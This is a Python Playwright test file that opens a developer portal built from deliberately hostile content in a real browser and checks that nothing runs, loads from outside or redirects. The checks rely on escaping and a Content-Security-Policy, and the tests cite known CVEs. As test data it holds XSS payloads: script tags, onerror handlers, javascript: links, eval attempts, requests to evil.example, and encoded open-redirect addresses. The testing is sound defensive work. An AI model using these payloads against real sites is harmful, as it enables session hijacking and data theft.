"""A portal in which all that people may write is hostile, opened in a real browser: nothing runs or leaks out.

The family of CVE-2021-32661 (script by an object element), CVE-2025-54880 and CVE-2025-54881 (script by labels and
icons of diagrams), and of what was tried on Material without an advisory: front matter that goes raw into the theme,
ids that take the place of the theme's own, text that closes a script, an attribute or an element.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request, Route, expect
from tests.browser.conftest import built, served
from tests.conftest import GitRepo
from tests.threats.hostile import Hostile, make_repository
from tests.threats.payloads import OUT, PRODUCT

from headland.portal.decorate import NEXT_PAGES
from headland.prose.allowed import TAGS

pytestmark = pytest.mark.browser

MATERIALS = "html head body meta title link script style header nav label form svg path button main article footer kbd"
OURS = "aside dialog rect select option fieldset legend g symbol use text tspan figure figcaption"
RULES = NEXT_PAGES.removeprefix('<script type="speculationrules">').removesuffix("</script>")
SCRIPTS = ("__md_scope=", "var palette=", "var tabs=", "var target=", RULES)
"""How the inline scripts of the theme begin, and our rules for pages that come next; there are no others."""

IDS = (
    r"^__(config|drawer|search|skip|toc|palette_\d+|nav_\d+(_\d+)*(_label)?|tabbed_\d+_\d+|codelineno[-\d]+"
    r"|(code|span)[-_a-z0-9]*)$"
)
"""Ids of the theme's own, and of what extensions make in its name."""

LISTEN = """
window.hits = [];
window.hit = (number) => (top.hits ?? hits).push(number);
document.addEventListener("securitypolicyviolation", (event) => {
  const { sourceFile, violatedDirective, blockedURI, sample } = event;
  if (!sourceFile.endsWith("mermaid.min.js")) hits.push(`${violatedDirective} ${blockedURI} ${sample}`);
});
"""
"""Mermaid's own sanitiser makes the browser report what it then takes out; anything else that is refused is told."""


@dataclass
class Tab:
    """A tab that notes all that a hostile text could have brought about."""

    page: Page
    root: str
    policy: str
    marks: list[str]
    noted: list[str] = field(default_factory=list)

    def open(self, address: str) -> None:
        """Go to an address of the site, which is given as it is written in links."""
        self.noted.clear()
        self.page.goto(self.root + address, wait_until="load")

    def wrong(self) -> list[str]:
        """All that is not as it should be on the page that is open."""
        allowed = {
            "tags": [*TAGS, *MATERIALS.split(), *OURS.split()],
            "ids": IDS,
            "policy": self.policy,
            "product": PRODUCT,
            "scripts": SCRIPTS,
        }
        found = list(self.noted)
        for hit in self.page.evaluate("hits"):
            found.append(f"ran: {self.marks[hit]}" if isinstance(hit, int) else f"stopped by the policy alone: {hit}")
        found.extend(self.page.evaluate(INSPECT, allowed))
        return found


INSPECT = (Path(__file__).parent / "inspect.js").read_text()


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    folder = tmp_path_factory.mktemp("hostile")
    os.environ.setdefault("GIT_CONFIG_NOSYSTEM", "1")
    return make_repository(GitRepo(folder / "repository"))


@pytest.fixture(scope="session")
def site(hostile: Hostile) -> Path:
    return built(hostile.folder, hostile.folder.parent / "site")


@pytest.fixture(scope="session")
def policy(site: Path) -> str:
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', (site / "404.html").read_text())
    assert found is not None
    return found[1]


@pytest.fixture(scope="session")
def root(site: Path) -> Iterator[str]:
    with served(site) as address:
        yield address


@pytest.fixture
def tabs(browser: Browser, root: str, policy: str, hostile: Hostile) -> Iterator[Callable[..., Tab]]:
    contexts = []

    def make(**options: Any) -> Tab:
        context = browser.new_context(**{"viewport": {"width": 1440, "height": 900}, **options})
        contexts.append(context)
        context.add_init_script(LISTEN)
        tab = Tab(context.new_page(), root, policy, hostile.marks.places)

        def on_request(request: Request) -> None:
            if not request.url.startswith((root, "data:", "blob:")):
                tab.noted.append(f"asked for {request.url}")

        def on_console(said: ConsoleMessage) -> None:
            is_missing = said.text.startswith("Failed to load resource")
            if said.type == "error" and not is_missing and "mermaid.min.js" not in str(said.location.get("url")):
                tab.noted.append(f"console: {said.text[:200]}")

        def on_dialog(dialog: Dialog) -> None:
            tab.noted.append(f"dialog: {dialog.message}")
            dialog.dismiss()

        page = tab.page

        def on_failure(request: Request) -> None:
            if request.failure == "csp":
                tab.noted.remove(f"asked for {request.url}")
                tab.noted.append(f"console: stopped by the policy alone: {request.url}")

        page.on("request", on_request)
        page.on("requestfailed", on_failure)
        page.on("console", on_console)
        page.on("pageerror", lambda error: tab.noted.append(f"error: {error}"))
        page.on("dialog", on_dialog)
        page.on("popup", lambda popup: tab.noted.append(f"popup: {popup.url}"))
        page.on("download", lambda download: tab.noted.append(f"download: {download.url}"))
        return tab

    yield make
    for context in contexts:
        context.close()


def addresses(site: Path) -> list[str]:
    """Every page of the site, as links write it."""
    paths = sorted(file.relative_to(site).as_posix() for file in site.rglob("*.html"))
    return [quote(path.removesuffix("index.html")) for path in paths]


def file_of(site: Path, address: str) -> Path:
    path = unquote(address)
    return site / (path if path.endswith(".html") else f"{path}index.html")


FAMILIES = {
    "home": "",
    "explorer": "explorer/",
    "list": "explorer/component/",
    "landscape": "landscape/",
    "graph": "graph/",
    "teams": "teams/",
    "findings": "findings/",
    "rule": "findings/dangling-reference/",
    "component": "catalog/default/component/payments_2.x-0-1/",
    "api": "catalog/default/api/payments-api-1-2/",
    "resource": "catalog/default/resource/db-3-1/",
    "system": "catalog/default/system/checkout-4-1/",
    "domain": "catalog/default/domain/sales-5-1/",
    "group": "catalog/default/group/team-a-6-2/",
    "user": "catalog/default/user/jenny-7-1/",
    "location": "catalog/default/location/rest-8-1/",
    "AI resource": "catalog/default/airesource/skill-10-1/",
    "template": "catalog/default/template/service-14-1/",
    "unknown kind": "catalog/default/widget/gadget-16-1/",
    "runbook": "records/runbook-1/",
    "decision": "records/decision-1/",
    "docs": "attack-1/",
    "docs beside a record": "catalog/default/component/beside/docs/page-0/",
    "missing": "no/such/page/",
}


def test_no_page_runs_asks_leads_away_or_leaks(tabs: Callable[..., Tab], site: Path) -> None:
    tab = tabs()
    found: dict[str, str] = {}
    for address in addresses(site):
        if '<meta http-equiv="refresh"' in file_of(site, address).read_text():
            continue  # a record that is a page of the docs: the test below follows it
        tab.open(address)
        wrong = tab.wrong()
        if tab.page.url != tab.root + address:
            wrong.append(f"navigated to {tab.page.url}")
        for what in wrong:
            found.setdefault(what, address)
    if found:
        pytest.fail("\n".join(f"{address}: {what}" for what, address in found.items()))


def test_a_redirect_leads_into_the_site_and_nowhere_else(tabs: Callable[..., Tab], site: Path) -> None:
    tab = tabs()
    redirects = [a for a in addresses(site) if '<meta http-equiv="refresh"' in file_of(site, a).read_text()]
    for address in redirects:
        tab.open(address)
        tab.page.wait_for_url(tab.root + "records/**")
        assert tab.noted == []
    assert len(redirects) == 2


def test_escaping_alone_holds_where_a_browser_knows_no_policy(tabs: Callable[..., Tab]) -> None:
    tab = tabs(bypass_csp=True)
    for address in FAMILIES.values():
        tab.open(address)
        assert tab.wrong() == [], address


INJECTED = """
<script>hit(0)</script><script src="https://evil.example/s.js"></script><img src=x onerror=hit(0)>
<svg onload=hit(0)></svg><iframe srcdoc="<script>parent.hit(0)</script>"></iframe>
<object data="data:text/html,x"></object>
<iframe src="https://evil.example/"></iframe><img src="https://evil.example/i.png"><base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/s.css"><style>@font-face{font-family:e;src:url(https://evil.example/f)}
body{font-family:e;background:url(https://evil.example/b)}</style>
<a id=attack href="javascript:hit(0)">x</a><form action="https://evil.example/f"><button id=send>x</button></form>
<script src="/own.js" defer></script>
"""
OWN = """
addEventListener("load", () => setTimeout(() => {
  for (const make of [eval, (text) => new Function(text)(), (text) => setTimeout(text, 0)]) {
    try { make("hit(0)"); } catch {}
  }
  document.querySelector("#attack").click();
  document.querySelector("#send").click();
}, 0));
"""
"""A script of the site itself, to which the policy forbids to make code of texts."""


def inject(tab: Tab, address: str) -> None:
    """Open a page as it would be if everything that keeps hostile text in its place had failed."""

    def fulfill(route: Route) -> None:
        response = route.fetch()
        body, into = re.subn(r"<body\b[^>]*>", lambda found: found[0] + INJECTED, response.text(), count=1)
        assert into == 1
        route.fulfill(response=response, body=body)

    tab.page.route(tab.root + address, fulfill)
    tab.page.route(tab.root + "own.js", lambda route: route.fulfill(content_type="text/javascript", body=OWN))
    tab.open(address)
    tab.page.wait_for_timeout(100)


def test_what_these_tests_look_for_is_seen_where_it_happens(tabs: Callable[..., Tab]) -> None:
    tab = tabs(bypass_csp=True)
    inject(tab, "works/")
    wrong = "\n".join(tab.wrong())
    for what in (
        "ran: ",
        f"asked for {OUT}s.js",
        "element: <base",
        "form: ",
        "handler: <img",
        "script: ",
    ):
        assert what in wrong


@pytest.mark.parametrize("address", FAMILIES.values(), ids=list(FAMILIES))
def test_the_policy_stops_what_would_get_into_a_page_all_the_same(tabs: Callable[..., Tab], address: str) -> None:
    tab = tabs()
    inject(tab, address)
    hits = tab.page.evaluate("hits")
    assert [hit for hit in hits if isinstance(hit, int)] == []
    stopped = {hit.split(" ")[0] for hit in hits}
    expected = {"base-uri", "form-action", "frame-src", "img-src", "object-src", "style-src-elem"}
    assert stopped >= {*expected, "script-src", "script-src-attr", "script-src-elem"}
    assert [what for what in tab.noted if not what.startswith("console: ")] == []
    assert tab.page.url == tab.root + address


def test_search_shows_hostile_texts_as_texts(tabs: Callable[..., Tab]) -> None:
    tab = tabs()
    tab.open("")
    tab.page.keyboard.press("/")
    box, options = tab.page.locator(".hl-search__input"), tab.page.locator(".hl-search__option")
    for words in ("script", "onerror", "javascript", "evil", "img src", "invoice", "hyperlink"):
        box.fill(words)
        expect(options.first).to_be_visible()
        assert tab.wrong() == [], words
    box.fill("<img src=x onerror=hit(0)>{{1337*7331}}")
    tab.page.wait_for_timeout(100)
    assert tab.wrong() == []


def test_what_was_opened_from_search_is_recalled_as_text(tabs: Callable[..., Tab]) -> None:
    tab = tabs()
    tab.open("")
    tab.page.keyboard.press("/")
    tab.page.locator(".hl-search__input").fill("script")
    tab.page.locator(".hl-search__option").first.click()
    tab.page.wait_for_load_state()
    tab.page.keyboard.press("/")
    expect(tab.page.locator(".hl-search__group")).to_have_text("Recently opened")
    assert tab.wrong() == []


def test_the_explorer_shows_hostile_texts_as_texts(tabs: Callable[..., Tab]) -> None:
    tab = tabs()
    tab.open("explorer/")
    expect(tab.page.locator(".hl-explorer__table tbody tr[aria-rowindex]").first).to_be_visible()
    for name in ("type", "owner", "lifecycle"):
        tab.page.locator(f'[data-facet="{name}"] input[type=checkbox]').last.check()
        assert tab.wrong() == [], name
        tab.page.locator(".hl-chip").first.click()
    for at in range(0, 6000, 1500):
        tab.page.evaluate(f"scrollTo(0, {at})")
    tab.page.locator(".hl-explorer__filter").fill("<img src=x onerror=hit(0)>")
    tab.page.wait_for_timeout(100)
    assert tab.wrong() == []


def test_the_graph_shows_hostile_texts_as_texts(tabs: Callable[..., Tab]) -> None:
    tab = tabs()
    every = "relation=ownedBy&relation=partOf&relation=dependsOn&relation=apiProvidedBy"
    for address in ("graph/?view=all&limit=320", f"graph/?of=component:payments_2.x-0-1&steps=3&{every}"):
        tab.open(address)
        nodes = tab.page.locator(".hl-network .hl-graph__node")
        expect(nodes.first).to_be_visible()
        for at in range(0, nodes.count(), 5):
            nodes.nth(at).dispatch_event("click")
        tab.page.locator(".hl-network__filters > summary").click()
        assert tab.wrong() == [], address
    field = tab.page.get_by_role("combobox", name="Around")
    for words in ("script", "onerror", "<img src=x onerror=hit(0)>"):
        field.fill(words)
        assert tab.wrong() == [], words


ATTACK = quote('"><img src=x onerror=hit(0)><script>hit(0)</script>', safe="")
BY_ADDRESS = (
    f"explorer/?q={ATTACK}&kind={ATTACK}&owner={ATTACK}&tag={ATTACK}&sort={ATTACK}",
    f"graph/?of={ATTACK}&to={ATTACK}&relation={ATTACK}&kind={ATTACK}&open={ATTACK}&q={ATTACK}",
    f"graph/?view=all&open={ATTACK}&domain={ATTACK}",
    f"landscape/?colour={ATTACK}&zoom={ATTACK}&q={ATTACK}",
    f"teams/?q={ATTACK}",
    f"findings/?q={ATTACK}&severity={ATTACK}&rule={ATTACK}&owner={ATTACK}",
    f"findings/#{ATTACK}",
    f"works/#{ATTACK}",
    "works/#__drawer",
    "works/#__config",
    f"{ATTACK}/",
    f"no/such/{ATTACK}/?{ATTACK}#{ATTACK}",
    "NO/SUCH/%2F%2Fevil.example/",
    "//EVIL.example/X/",
    "%5C%5CEVIL.example/",
    "X/..%2f..%2f/EVIL.example/",
)


def test_a_hostile_address_of_a_page_runs_nothing_and_leads_nowhere(tabs: Callable[..., Tab]) -> None:
    tab = tabs()
    for address in BY_ADDRESS:
        tab.open(address)
        tab.page.wait_for_timeout(100)
        assert tab.wrong() == [], address
        assert tab.page.url.startswith(tab.root), address


def test_findings_are_filtered_by_hostile_words(tabs: Callable[..., Tab]) -> None:
    tab = tabs()
    tab.open("findings/")
    shown = tab.page.locator(".hl-finding:visible")
    everything = shown.count()
    tab.page.get_by_label("Filter findings by any word").fill("<img src=x onerror=")
    expect(tab.page.locator(".hl-explorer__count")).not_to_have_text(f"{everything} findings")
    assert 0 < shown.count() < everything
    assert tab.wrong() == []


def test_the_themes_own_scripts_go_on_working_among_hostile_texts(tabs: Callable[..., Tab]) -> None:
    tab = tabs(permissions=["clipboard-read", "clipboard-write"], color_scheme="light")
    tab.open("works/")
    page = tab.page
    page.get_by_text("Second tab", exact=True).click()
    expect(page.get_by_text("Second words.")).to_be_visible()
    page.locator(".highlight").hover()
    page.locator(".md-code__button[data-md-type=copy], .md-clipboard").first.click()
    expect(page.locator(".md-dialog")).to_contain_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()").strip() == 'print("copied")'
    expect(page.locator("div.mermaid")).to_be_visible()
    page.get_by_text("Folded", exact=True).click()
    expect(page.get_by_text("Inside.")).to_be_visible()
    page.locator("label[for=__palette_1]:visible").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert tab.wrong() == []


def test_the_drawer_opens_on_a_phone_among_hostile_texts(tabs: Callable[..., Tab]) -> None:
    tab = tabs(viewport={"width": 390, "height": 844})
    tab.open("works/")
    expect(tab.page.locator(".md-nav--primary")).not_to_be_in_viewport()
    tab.page.locator("label.md-header__button[for=__drawer]").click()
    expect(tab.page.locator(".md-nav--primary")).to_be_in_viewport()
    assert tab.wrong() == []


def test_a_copy_button_copies_what_it_says_and_nothing_else(tabs: Callable[..., Tab]) -> None:
    tab = tabs(permissions=["clipboard-read", "clipboard-write"])
    tab.open(FAMILIES["component"])
    tab.page.locator(".hl-facts .hl-copy").click()
    expect(tab.page.locator(".hl-copied")).to_be_visible()
    assert tab.page.evaluate("navigator.clipboard.readText()") == "component:default/payments_2.x-0-1"


def test_every_page_carries_one_and_the_same_policy_first(site: Path, policy: str) -> None:
    tag = f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{policy}">'
    for file in site.rglob("*.html"):
        assert re.match(rf"\s*<!doctype html>\s*<html[^>]*>\s*<head>{re.escape(tag)}", file.read_text()), file
    scripts = dict(part.split(" ", 1) for part in policy.split("; "))["script-src"].split()
    assert scripts[0] == "'self'"
    assert all(re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", source) for source in scripts[1:])


def test_the_site_has_no_file_that_would_run(site: Path) -> None:
    """CVE-2021-32661: an object element had a page of the docs, or a picture, run as one of the site's own."""
    names = {file.name for file in site.rglob("*")}
    assert "calm.svg" in names
    assert names.isdisjoint({"x.html", "x.svg", "main.html", "hook.py"})
